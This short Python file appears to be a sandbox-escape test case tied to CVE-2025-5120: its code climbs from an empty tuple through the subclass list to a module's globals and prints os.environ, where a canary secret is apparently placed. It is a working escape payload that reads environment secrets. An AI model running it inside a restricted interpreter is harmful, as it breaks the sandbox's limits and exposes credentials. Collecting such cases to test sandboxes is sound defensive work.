"""Walk from a tuple to every class, and from one of them to its module's globals.

family: classes
canary: secret
stops: full, container
root: no
related: CVE-2025-5120
"""

for each in ().__class__.__base__.__subclasses__():
    reach = getattr(each.__init__, "__globals__", {})
    if "sys" in reach and "os" in reach["sys"].modules:
        print(reach["sys"].modules["os"].environ)
        break
